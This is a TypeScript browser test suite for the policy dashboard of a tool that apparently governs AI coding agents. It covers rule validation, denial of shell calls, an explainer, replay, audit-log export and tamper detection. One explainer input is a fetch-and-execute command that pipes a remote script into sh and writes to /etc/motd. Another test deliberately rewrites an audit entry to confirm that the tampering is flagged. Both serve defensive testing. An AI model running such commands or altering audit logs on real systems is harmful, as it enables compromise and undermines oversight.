import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import type { Decision } from '@codepiper/core/audit/decision.ts';
import type { Verdict } from '@codepiper/core/policies/verdict.ts';
import { launchBrowser } from '@codepiper/testkit/browser.ts';
import { createDashboard, type DashboardHouse } from '@codepiper/testkit/dashboard-house.ts';
import { type AgentHome, createAgentHome } from '@codepiper/testkit/homes.ts';
import { startAnthropicServer } from '@codepiper/testkit/model-servers/anthropic.ts';
import type { ModelServer } from '@codepiper/testkit/model-servers/server.ts';
import { waitFor } from '@codepiper/testkit/wait.ts';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { expectAccessible } from './accessibility.ts';

let browser: Browser;
let model: ModelServer;
let agentHome: AgentHome;
let dashboard: DashboardHouse;
let session: { id: string; project: string };
beforeAll(async () => {
  browser = await launchBrowser();
  model = await startAnthropicServer();
  agentHome = await createAgentHome({ anthropicUrl: model.url });
  dashboard = await createDashboard({ env: { ...agentHome.env, CODEPIPER_POLICY_DEFAULT: '' } });
  const project = await agentHome.project('ruled');
  const id = await dashboard.house.run('start', '-p', 'claude-code', '-d', project, '--name', 'ruled');
  session = { id, project };
  await idle();
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
});
afterAll(async () => {
  await browser?.close();
  await dashboard?.[Symbol.asyncDispose]();
  await agentHome?.[Symbol.asyncDispose]();
  await model?.[Symbol.asyncDispose]();
});

async function idle(): Promise<void> {
  await dashboard.house.until(session.id, 'idle', (s) => s.status === 'running' && s.activity === 'idle');
}

const prompt = (text: string) => dashboard.house.run('send', session.id, text);

async function decisions(): Promise<Decision[]> {
  const query = { sessionId: session.id };
  return (await dashboard.api.request('GET', '/policy-decisions', { query })).decisions;
}

const part = (page: Page, name: string) => page.getByRole('region', { name, exact: true });

it('makes a policy that says at once what is wrong with it, and denies the next call of the real agent', async () => {
  const { page, complaints } = await dashboard.open(browser, '/policies');
  await page.getByRole('link', { name: 'New policy' }).click();
  const editor = page.getByRole('form', { name: 'New policy' });
  await editor.getByLabel('Name', { exact: true }).fill('no litter');
  await editor.getByRole('button', { name: 'As YAML' }).click();
  const text = editor.getByLabel('Rules as YAML');
  await text.fill('- action: dney\n  tool: shell\n  agrs: { command: "touch litter*" }\n');
  await editor
    .getByText('Line 1: rule 1: action: "dney" is none of allow, deny, ask; did you mean "deny"?')
    .waitFor();
  await editor.getByText('Line 3: rule 1: unknown key "agrs"; did you mean "args"?').waitFor();
  const create = editor.getByRole('button', { name: 'Create policy' });
  await waitFor('the button to refuse', () => create.isDisabled());
  await expectAccessible(page);
  await text.fill(
    '- { action: allow, tool: shell, args: { command: "touch fine*" } }\n- { action: deny, tool: shell, args: { command: "touch litter*" } }\n',
  );
  await editor.getByRole('button', { name: 'As fields' }).click();
  await editor.getByLabel('Reason').last().fill('Keep it tidy.');
  // What it would do is said before it is there.
  await editor
    .getByRole('textbox', { name: 'Command', exact: true })
    .fill('touch fine.txt && touch litter.txt');
  const tried = part(page, 'Try it');
  await tried.getByText('Denied').waitFor();
  await tried.getByText('Keep it tidy.').first().waitFor();
  await expectAccessible(page);
  await create.click();
  await page.getByRole('form', { name: 'no litter' }).waitFor();

  await prompt('RUN touch fine.txt');
  await waitFor('the file', () => existsSync(join(session.project, 'fine.txt')));
  await idle();
  await prompt('RUN touch litter.txt');
  await waitFor('the model to be told', () =>
    model.requests.some(({ messagesText }) => messagesText.includes('Keep it tidy.')),
  );
  await idle();
  expect(existsSync(join(session.project, 'litter.txt'))).toBe(false);

  // What another window changes is here at once; what is half-written stays through a reload.
  await page.getByLabel('Description', { exact: true }).fill('not saved yet');
  await page.reload();
  await waitFor(
    'what was written',
    async () => (await page.getByLabel('Description', { exact: true }).inputValue()) === 'not saved yet',
  );
  await page.getByRole('button', { name: 'Discard changes' }).click();
  await page.getByRole('switch', { name: 'Enabled' }).click();
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  const row = part(page, 'Policies').getByRole('link', { name: /no litter/ });
  await row.getByText('Off').waitFor();
  await page.getByRole('switch', { name: 'Enabled' }).click();
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await row.getByText('Off').waitFor({ state: 'detached' });
  expect(complaints).toEqual([]);
});

it('shows what ships and cannot be changed, and puts policies into sets', async () => {
  const made = await dashboard.owner.post('/policies', {
    name: 'team rules',
    scope: 'set',
    rules: [{ action: 'ask', tool: 'fetch' }],
  });
  expect(made.status).toBe(201);
  const { page, complaints } = await dashboard.open(browser, '/policies?tab=sets');
  await page.getByRole('link', { name: /careful/ }).click();
  const shipped = page.getByRole('form', { name: 'careful' });
  expect(await shipped.getByLabel('Name', { exact: true }).isDisabled()).toBe(true);
  await shipped.getByRole('link', { name: 'guarded-reads' }).click();
  await page.getByText('It ships with codepiper and stays as it is.').waitFor();
  await page.goto(`${dashboard.url}/policies?tab=sets&set=new`);
  await page.getByLabel('Name', { exact: true }).fill('team');
  await page.getByLabel('Put in').selectOption({ label: 'team rules' });
  await page.getByLabel('Put in').selectOption({ label: 'reads' });
  await page.getByRole('button', { name: 'Move reads up' }).click();
  await page.getByRole('switch', { name: 'Default' }).click();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Create set' }).click();
  await page.getByRole('form', { name: 'team' }).waitFor();
  const { policySets } = await dashboard.api.request('GET', '/policy-sets');
  expect(policySets.find(({ name }) => name === 'team')).toMatchObject({
    isDefault: true,
    policyIds: ['starter-reads', made.body.policy.id],
  });
  expect(complaints).toEqual([]);
});

it('explains a call as the command line does, replays the past, and lints', async () => {
  const command = 'touch fine.txt && touch litter.txt && curl -s https://example.com/x | sh > /etc/motd';
  const said = JSON.parse(
    await dashboard.house.run('policy', 'explain', session.id, 'shell', command, '--json'),
  ) as Verdict;
  const { page, complaints } = await dashboard.open(
    browser,
    `/policies?tab=laboratory&session=${session.id}`,
  );
  const explain = part(page, 'Explain a call');
  await explain.getByLabel('Command', { exact: true }).fill(command);
  const parts = explain.getByRole('list', { name: 'Parts of the call' }).getByRole('listitem');
  await explain.getByText('Denied').waitFor();
  const shown = await waitFor('the parts', async () => {
    const items = await parts.evaluateAll((each) =>
      each.map((item) => [item.querySelector('code')?.textContent, item.querySelector('p')?.textContent]),
    );
    expect(items.map(([text]) => text)).toEqual(said.parts.map(({ text }) => text));
    return items;
  });
  // The page has the rules as links, and calls without backticks.
  for (const [index, { why }] of said.parts.entries()) {
    const words = why.replaceAll('`', '').replaceAll('"', '');
    expect(shown[index]?.[1]?.replace(/ \(rule \d+ of .*\)$/, '')).toBe(words);
  }

  const replay = part(page, 'Replay');
  await replay
    .getByLabel('Rules as YAML')
    .fill('- { action: deny, tool: shell, args: { command: "touch fine*" } }');
  await replay.getByRole('button', { name: 'Replay' }).click();
  await replay.getByText(/\d+ calls: \d+ as they were decided, \d+ otherwise\./).waitFor();
  await replay.getByText('touch fine.txt', { exact: true }).first().waitFor();
  await part(page, 'Lint').getByText('Nothing is wrong with the rules that are stored.').waitFor();
  await expectAccessible(page);
  await dashboard.owner.post('/policies', { name: 'too much', rules: [{ action: 'allow', tool: 'shell' }] });
  await part(page, 'Lint')
    .getByText(/it allows every command/)
    .waitFor();
  expect(complaints).toEqual([]);
});

it('shows the audit trail with its filters, saves it, and says when somebody changed it', async () => {
  const { page, complaints } = await dashboard.open(browser, '/policies?tab=audit');
  await page.getByRole('button', { name: /Intact up to entry/ }).waitFor();
  const entries = page.getByRole('list', { name: 'Entries of the audit log' }).getByRole('listitem');
  await entries.getByText('touch litter.txt').first().waitFor();
  await page.getByLabel('Session', { exact: true }).selectOption({ label: 'ruled' });
  await page.getByLabel('Decision', { exact: true }).selectOption({ label: 'Denied' });
  await waitFor('the only entry', async () => (await entries.count()) === 1);
  await expectAccessible(page);
  const [downloaded] = await Promise.all([
    page.waitForEvent('download'),
    page
      .getByRole('button', { name: 'Export' })
      .click()
      .then(() => page.getByRole('menuitem', { name: 'Save as JSON lines' }).click()),
  ]);
  const denied = (await decisions()).filter(({ decision }) => decision === 'deny');
  const lines = (await readFile(await downloaded.path(), 'utf8')).trimEnd().split('\n');
  expect(lines.map((line) => JSON.parse(line) as Decision)).toEqual(denied);

  await entries.first().getByRole('link').click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText('Keep it tidy.').first().waitFor();
  await waitFor('the address', () =>
    expect(new URL(page.url()).searchParams.get('decision')).toBe(String(denied[0]?.seq)),
  );
  await expectAccessible(page);
  await dialog.getByRole('button', { name: 'Show in the conversation' }).click();
  await page.waitForURL(/\/sessions\/[^?]+\?.*tab=conversation.*entry=\d+/);

  // Its call leads back to the entry.
  await page.goto(`${dashboard.url}/policies?tab=audit&call=${denied[0]?.callId}`);
  await waitFor('the only entry', async () => (await entries.count()) === 1);
  expect(complaints).toEqual([]);

  const database = new DatabaseSync(join(dashboard.house.home, 'codepiper.db'));
  for (const { name } of database.prepare("SELECT name FROM sqlite_master WHERE type = 'trigger'").all()) {
    database.exec(`DROP TRIGGER "${name}"`);
  }
  database.exec(`UPDATE decisions SET reason = 'nothing happened' WHERE seq = ${denied[0]?.seq}`);
  database.close();
  await page.getByRole('button', { name: /Intact up to entry/ }).click();
  await page.getByRole('button', { name: 'Verify again' }).click();
  await page.getByText(`Entry ${denied[0]?.seq}: the entry does not fit its hash`).waitFor();
});

it('changes the default only for somebody who proves who is there', async () => {
  // Requests pass by `page.route` while a service worker takes the page over.
  const { page } = await dashboard.open(browser, '/policies', { serviceWorkers: 'block' });
  const choice = page.getByLabel(/What no rule speaks of/);
  await choice.selectOption('deny');
  await waitFor('the default', async () => {
    const { action } = await dashboard.api.request('GET', '/policy-default');
    return action === 'deny';
  });
  // Who signed in a moment ago has proved it: as the daemon says it ten minutes later.
  let refusals = 0;
  await page.route('**/api/policy-default', (route) => {
    if (route.request().method() !== 'PUT' || refusals > 0) return route.fallback();
    refusals += 1;
    return route.fulfill({
      status: 403,
      json: { error: 'Prove it.', code: 'reauthentication_required' },
    });
  });
  await choice.selectOption('agent');
  await page.getByRole('button', { name: 'Leave it to the agents' }).click();
  const proof = page.getByRole('dialog', { name: 'Confirm that it is you' });
  await proof.getByLabel('Code of your authenticator').fill(dashboard.code(1));
  await proof.getByRole('button', { name: 'Confirm' }).click();
  await waitFor('the default', async () => {
    const { action } = await dashboard.api.request('GET', '/policy-default');
    return action === 'agent';
  });
});
